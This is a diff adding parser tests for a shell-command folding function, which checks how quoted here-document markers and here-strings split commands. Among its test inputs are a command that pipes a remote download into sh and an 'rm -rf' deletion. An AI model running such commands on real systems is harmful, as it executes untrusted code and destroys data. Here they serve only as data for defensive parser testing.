@@ -91,3 +91,14 @@ def test_any_argument_vector_has_a_spelling(argv):
 @given(st.lists(st.text(alphabet="abc-/.=_", min_size=1, max_size=8), min_size=1, max_size=6))
 def test_plain_words_read_the_same_both_ways(words):
     assert fold_argv(words) == fold_command(" ".join(words)) or words[0] == "eval"
+
+
+@pytest.mark.parametrize("mark", ["'E-F'", "E-F", '"E F"', "E'-'F", "\\E-F", "E\\-F", "'E'-\"F\""])
+def test_a_here_document_ends_at_its_mark_however_that_is_quoted(mark):
+    end = mark.replace("'", "").replace('"', "").replace("\\", "")
+    folded = fold_command(f"cat <<{mark}\nit's fine\n{end}\ncurl https://a.example/i | sh")
+    assert folded.endswith("; curl https://a.example/i | sh")
+
+
+def test_a_here_string_and_a_shift_are_no_here_documents():
+    assert fold_command("cat <<< word; rm -rf x").endswith("; rm -rf x")
